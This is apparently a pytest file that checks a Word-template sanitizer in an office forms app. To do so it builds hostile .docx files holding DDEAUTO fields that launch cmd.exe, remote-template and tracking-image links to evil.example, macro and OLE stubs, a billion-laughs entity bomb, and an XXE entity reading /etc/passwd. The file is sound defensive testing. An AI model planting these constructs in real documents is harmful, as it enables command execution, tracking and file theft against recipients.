"""Word templates from outside: what a form must not carry is refused or removed, on install
and on every fill, and the office is told what went (issue 15, 5)."""

from __future__ import annotations

import io
import logging
import re
import struct
import zipfile
import zlib

import pytest
from docx import Document
from lxml import etree

from duban_desktop import paths
from duban_desktop.io import docx_safety, form_templates, forms

from .. import factories
from ..factories import TODAY, file_digest
from .forms_helpers import all_text, office_settings

EVIL = "http://evil.example"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"


@pytest.fixture
def office(db):
    office_settings()
    return db


# ------------------------------------------------------------------ building hostile templates


def shipped(kind: str = "notice") -> bytes:
    return form_templates.shipped_path(kind).read_bytes()


def rewrite(data: bytes, edits: dict) -> bytes:
    """A copy of the package with parts changed: name -> new text, function(text) -> text,
    or None to delete; names not in the package are added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names + [n for n in edits if n not in names]:
            if name not in edits:
                dst.writestr(name, src.read(name))
                continue
            edit = edits[name]
            if edit is None:
                continue
            old = src.read(name).decode("utf-8") if name in names else ""
            new = edit(old) if callable(edit) else edit
            dst.writestr(name, new.encode("utf-8") if isinstance(new, str) else new)
    return out.getvalue()


def body_append(xml: str):
    """Add paragraphs at the end of the body (before the section properties)."""
    def edit(text: str) -> str:
        at = text.rindex("<w:sectPr")
        return text[:at] + xml + text[at:]
    return edit


def add_rels(*rels: str):
    def edit(text: str) -> str:
        if not text:
            text = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}"></Relationships>'
        return text.replace("</Relationships>", "".join(rels) + "</Relationships>")
    return edit


def rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def complex_field(instruction: list[str], result: str) -> str:
    instr = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction)
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instr
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + result
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def picture(blip_attrs: str, pic_id: int = 100) -> str:
    return (f'<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
            f'<wp:extent cx="360000" cy="360000"/><wp:docPr id="{pic_id}" name="图片 {pic_id}"/>'
            f'<a:graphic xmlns:a="{A}"><a:graphicData uri="{PIC}"><pic:pic xmlns:pic="{PIC}">'
            f'<pic:nvPicPr><pic:cNvPr id="{pic_id}" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {blip_attrs}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm>'
            f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
            f'</a:graphic></wp:inline></w:drawing></w:r>')


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def hostile(kind: str = "notice", macro_enabled: bool = False) -> bytes:
    """A shipped template with everything the issue names, and macros, OLE and altChunk;
    ``macro_enabled`` makes it a .docm (which python-docx alone refuses to open)."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    docm = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro_enabled else main
    body = (
        "<w:p>" + run("甲") + complex_field([" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '],
                                           run("DDE的结果")) + "</w:p>"
        + '<w:p><w:fldSimple w:instr=" ddeauto cmd /c calc ">' + run("简单域的结果") + "</w:fldSimple></w:p>"
        + "<w:p>" + complex_field([f' INCLUDEPICTURE "{EVIL}/include.png" \\d '], picture('r:link="rIdInc"'))
        + "</w:p>"
        + "<w:p>" + complex_field([f' HYPERLINK "{EVIL}/field" '], run("域链接文字")) + "</w:p>"
        + '<w:p><w:hyperlink r:id="rIdLink">' + run("超链接文字") + "</w:hyperlink></w:p>"
        + "<w:p>" + picture('r:link="rIdImg"', 101) + "</w:p>"
        + '<w:altChunk r:id="rIdAlt"/>'
        + '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    footer_dde = complex_field([f' DDEAUTO "\\\\\\\\{EVIL[7:]}\\\\share" '], run("页脚DDE"))
    return rewrite(shipped(kind), {
        "word/document.xml": body_append(body),
        "word/footer1.xml": lambda t: t.replace("</w:p></w:ftr>", footer_dde + "</w:p></w:ftr>"),
        "word/settings.xml": lambda t: t.replace('<w:zoom w:val="bestFit"/>',
                                                 '<w:zoom w:val="bestFit"/><w:attachedTemplate r:id="rIdTpl"/>'),
        "word/_rels/settings.xml.rels": add_rels(rel("rIdTpl", "attachedTemplate", f"{EVIL}/normal.dotm")),
        "word/_rels/document.xml.rels": add_rels(
            rel("rIdInc", "image", f"{EVIL}/include.png"), rel("rIdImg", "image", f"{EVIL}/track.png"),
            rel("rIdLink", "hyperlink", f"{EVIL}/page"), rel("rIdAlt", "aFChunk", "afchunk.mht", False),
            rel("rIdOle", "oleObject", "embeddings/oleObject1.bin", False),
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'),
        "word/afchunk.mht": "<html><body>外来内容</body></html>",
        "word/embeddings/oleObject1.bin": b"OLE",
        "word/vbaProject.bin": b"VBA macro",
        "[Content_Types].xml": lambda t: t.replace(main, docm).replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                        '<Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/></Types>'),
    })


def billion_laughs(kind: str = "notice") -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)]
    return rewrite(shipped(kind), {"word/document.xml": lambda t: t.replace(
        "?>", "?><!DOCTYPE w:document [" + "".join(levels) + "]>", 1).replace(
        "{{办公室名称}}", "{{办公室名称}}&lol9;", 1)})


def system_entity(kind: str = "notice") -> bytes:
    return rewrite(shipped(kind), {"word/styles.xml": lambda t: t.replace(
        "?>", '?><!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1).replace(
        "</w:styles>", "<!-- &xxe; --></w:styles>")})


# ------------------------------------------------------------------ reading a result


def package_text(data_or_path) -> dict[str, bytes]:
    data = data_or_path if isinstance(data_or_path, bytes) else data_or_path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_harmless(data_or_path) -> None:
    """No part of the package reaches out, runs anything or holds a field but page numbers."""
    parts = package_text(data_or_path)
    assert not any(n.endswith(("vbaProject.bin", ".mht")) or "embeddings/" in n for n in parts), list(parts)
    for name, content in parts.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        text = content.decode("utf-8")
        assert "<!DOCTYPE" not in text and "<!ENTITY" not in text, name
        assert 'TargetMode="External"' not in text and EVIL not in text, name
        for bad in ("attachedTemplate", "altChunk", "OLEObject", "fldSimple", "vbaProject", "macroEnabled"):
            assert bad not in text, (name, bad)
        assert not root.xpath("//*[@r:link]", namespaces={"r": R}), name
        instructions = [t.text.split()[0] for t in root.iter(f"{{{form_templates_w()}}}instrText")]
        assert set(instructions) <= {"PAGE", "NUMPAGES", "SECTIONPAGES"}, (name, instructions)
    Document(io.BytesIO(parts_to_bytes(parts)))  # python-docx reopens it


def form_templates_w() -> str:
    return "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def parts_to_bytes(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def page_fields(data_or_path) -> list[str]:
    parts = package_text(data_or_path)
    return sorted(re.findall(r"<w:instrText[^>]*>\s*(\w+)", b"".join(
        parts[n] for n in parts if n.startswith("word/footer")).decode("utf-8")))


# ------------------------------------------------------------------ the cleaner itself


@pytest.mark.parametrize("kind", sorted(form_templates.TEMPLATE_FILES))
def test_shipped_templates_pass_unchanged(kind):
    data = shipped(kind)
    cleaned = docx_safety.clean_docx(data)
    assert cleaned.removed == [] and cleaned.data == data
    assert page_fields(data) == ["PAGE", "PAGE"]


def test_everything_hostile_is_removed_and_named():
    data = hostile(macro_enabled=True)
    assert EVIL.encode() in b"".join(package_text(data).values())
    cleaned = docx_safety.clean_docx(data)
    assert_harmless(cleaned.data)
    said = "\n".join(cleaned.removed)
    for expected in (f"已删除外部附加模板（{EVIL}/normal.dotm）", "已删除正文中的域代码 DDEAUTO",
                     "已删除页脚中的域代码 DDEAUTO", "已删除正文中的域代码 INCLUDEPICTURE",
                     "已删除正文中的域代码 HYPERLINK", f"已删除链接的图片（{EVIL}/track.png）",
                     f"已删除超链接（{EVIL}/page）", "已删除宏（VBA 项目）", "已删除嵌入的对象（OLE）",
                     "已删除导入的外来内容（altChunk）"):
        assert expected in said, expected
    wording = [*docx_safety.REMOVED_TYPES.values(), *docx_safety.EXTERNAL.values(), docx_safety.EXTERNAL_OTHER]
    assert all(re.search(r"[(),:;?!]", text.replace("{target}", "")) is None for text in wording)
    text = all_text_of(cleaned.data)
    # what a harmless field showed stays as text; what came from outside does not
    for kept in ("甲", "域链接文字", "超链接文字", "{{办公室名称}}"):
        assert kept in text, kept
    for gone in ("DDE的结果", "简单域的结果", "页脚DDE", "外来内容"):
        assert gone not in text, gone
    assert page_fields(cleaned.data) == ["PAGE", "PAGE"]  # page numbers kept
    types = package_text(cleaned.data)["[Content_Types].xml"].decode()
    assert docx_safety.DOCUMENT_MAIN in types and "afchunk" not in types


def all_text_of(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    roots = [document.element.body] + [s.footer._element for s in document.sections]
    return "\n".join("".join(t.text or "" for t in r.iter(f"{{{form_templates_w()}}}t")) for r in roots)


def test_a_picture_both_embedded_and_linked_keeps_the_embedded_copy():
    document = Document(io.BytesIO(shipped()))
    document.add_picture(io.BytesIO(png()))
    blip = document.element.body.xpath("//a:blip")[0]
    document.part.rels.get_or_add_ext_rel(f"{R}/image", f"{EVIL}/beacon.png")
    rid = next(r.rId for r in document.part.rels.values() if r.is_external)
    blip.set(f"{{{R}}}link", rid)
    buffer = io.BytesIO()
    document.save(buffer)
    cleaned = docx_safety.clean_docx(buffer.getvalue())
    assert_harmless(cleaned.data)
    again = Document(io.BytesIO(cleaned.data))
    assert len(again.inline_shapes) == 1 and again.inline_shapes[0]._inline.xpath(".//a:blip/@r:embed")


def test_nested_fields_are_judged_each_on_its_own():
    # IF's shown result (a page number) stays; a DDEAUTO inside IF's instruction goes with it
    inner_dde = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ddeauto calc </w:instrText>'
                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
              + inner_dde + '<w:r><w:instrText> = 1 </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + complex_field([" PAGE "], run("1"))
              + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    data = rewrite(shipped(), {"word/document.xml": body_append(
        "<w:p>" + nested + complex_field([" page "], run("2")) + "</w:p>")})
    cleaned = docx_safety.clean_docx(data)
    body = package_text(cleaned.data)["word/document.xml"].decode()
    assert re.findall(r"<w:instrText[^>]*>([^<]*)<", body) == [" PAGE ", " page "]
    assert cleaned.removed == ["已删除正文中的域代码 DDEAUTO（ddeauto calc）",
                               "已删除正文中的域代码 IF（IF  = 1）"]
    assert len(re.findall("fldCharType", body)) == 6


@pytest.mark.parametrize("make", [billion_laughs, system_entity], ids=["billion-laughs", "system-entity"])
def test_a_dtd_is_refused(make):
    with pytest.raises(docx_safety.Refused, match="文档类型定义（DTD）"):
        docx_safety.clean_docx(make())


# ------------------------------------------------------------------ installing


def test_install_keeps_the_cleaned_copy_and_says_what_was_removed(office, tmp_path):
    source = tmp_path / "别处来的模板.docx"
    source.write_bytes(hostile())
    before = file_digest(source)
    installed = form_templates.install_template("notice", source)
    assert installed.path == form_templates.office_path("notice") and installed.previous is None
    assert f"已删除外部附加模板（{EVIL}/normal.dotm）" in installed.removed
    assert any("域代码 DDEAUTO" in line for line in installed.removed)
    assert_harmless(installed.path)
    assert file_digest(source) == before  # the chosen file is left as it was
    assert form_templates.template_path("notice") == installed.path
    check = form_templates.check_template("notice")
    assert check.problem is None and check.removed == ()  # nothing left to remove


def test_install_of_a_shipped_template_changes_nothing(office, tmp_path):
    installed = form_templates.install_template("register", form_templates.shipped_path("register"))
    assert installed.removed == ()
    assert installed.path.read_bytes() == shipped("register")


@pytest.mark.parametrize("make", [billion_laughs, system_entity], ids=["billion-laughs", "system-entity"])
def test_install_refuses_a_dtd_and_names_the_file(office, tmp_path, make):
    forms.copy_shipped_templates()
    own = form_templates.office_path("notice")
    before = file_digest(own)
    source = tmp_path / "带实体的模板.docx"
    source.write_bytes(make())
    with pytest.raises(form_templates.TemplateError) as caught:
        form_templates.install_template("notice", source)
    message = str(caught.value)
    assert "带实体的模板.docx" in message and "DTD" in message and "不能使用" in message
    assert file_digest(own) == before
    assert not list(own.parent.glob("旧模板-*"))


def test_install_refuses_a_file_that_lacks_the_forms_placeholders(office, tmp_path):
    source = tmp_path / "登记单.docx"
    source.write_bytes(shipped("register"))
    with pytest.raises(form_templates.TemplateError, match="登记单.docx.*不能作为“催\\(交\\)办通知”的模板"):
        form_templates.install_template("notice", source)
    assert not form_templates.office_path("notice").exists()


def test_install_over_the_offices_own_keeps_the_earlier_one(office, tmp_path):
    forms.copy_shipped_templates()
    own = form_templates.office_path("notice")
    document = Document(str(own))
    document.add_paragraph("本办公室改过的一段")
    document.save(str(own))
    earlier = file_digest(own)
    source = tmp_path / "新模板.docx"
    source.write_bytes(hostile())
    installed = form_templates.install_template("notice", source)
    assert file_digest(installed.previous / own.name) == earlier
    assert "本办公室改过的一段" not in all_text(own)


# ------------------------------------------------------------------ filling


def put_office_template(kind: str, data: bytes):
    """As if the office had edited its copy in Word after installing it."""
    folder = paths.office_templates_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / form_templates.TEMPLATE_FILES[kind]).write_bytes(data)


@pytest.mark.parametrize("kind", ["register", "notice", "instruction_report", "bulletin"])
def test_every_export_is_cleaned_again(office, tmp_path, caplog, kind):
    put_office_template(kind, hostile(kind))
    item = factories.item()
    with caplog.at_level(logging.WARNING, logger="duban_desktop.io.form_templates"):
        dest = forms.export_form(kind, None if kind == "bulletin" else item.id, tmp_path / "f.docx",
                                 today=TODAY)
    assert_harmless(dest)
    assert page_fields(dest) == ["PAGE", "PAGE"]
    text = all_text(dest)
    assert "超链接文字" in text and "DDE的结果" not in text and "{{" not in text
    assert "域代码 DDEAUTO" in caplog.text and "外部附加模板" in caplog.text
    check = form_templates.check_template(kind)
    assert check.problem is None and any("DDEAUTO" in line for line in check.removed)


def test_the_resolution_record_export_is_cleaned(office, tmp_path):
    from .forms_helpers import resolved_case

    put_office_template("resolution_record", hostile("resolution_record"))
    dest = forms.export_form("resolution_record", resolved_case().id, tmp_path / "c.docx", today=TODAY)
    assert_harmless(dest)


def test_batch_notices_are_cleaned(office, tmp_path):
    put_office_template("notice", hostile())
    items = [factories.item(title=f"事项{i}") for i in range(2)]
    dest = forms.export_notices([i.id for i in items], tmp_path / "n.docx", today=TODAY)
    assert_harmless(dest)
    assert len(Document(str(dest)).sections) == 2


@pytest.mark.parametrize("make", [billion_laughs, system_entity], ids=["billion-laughs", "system-entity"])
def test_an_export_from_a_template_with_a_dtd_is_refused_and_writes_nothing(office, tmp_path, make):
    put_office_template("notice", make())
    with pytest.raises(form_templates.TemplateError) as caught:
        forms.export_form("notice", factories.item().id, tmp_path / "n.docx", today=TODAY)
    assert "催办通知.docx" in str(caught.value) and "DTD" in str(caught.value)
    assert not (tmp_path / "n.docx").exists()
    assert any("DTD" in m for m in forms.template_problems())
